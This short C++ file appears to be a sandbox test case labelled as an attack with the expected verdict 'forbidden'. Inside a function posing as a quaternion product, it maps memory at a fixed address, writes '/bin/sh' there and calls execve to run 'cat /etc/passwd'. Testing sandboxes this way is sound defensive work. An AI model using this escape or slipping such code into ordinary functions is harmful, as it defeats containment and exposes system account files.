// Attack: execs a path at the address that the sandbox itself uses to start programs.
// Verdict: forbidden
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstring>

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
  void* const wanted = reinterpret_cast<void*>(std::uintptr_t{1} << 40);
  void* const page =
      mmap(wanted, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  std::strcpy(static_cast<char*>(page), "/bin/sh");
  const char* arguments[] = {"sh", "-c", "cat /etc/passwd", nullptr};
  syscall(SYS_execve, page, arguments, nullptr);
  return a;
}
}  // namespace quaternions
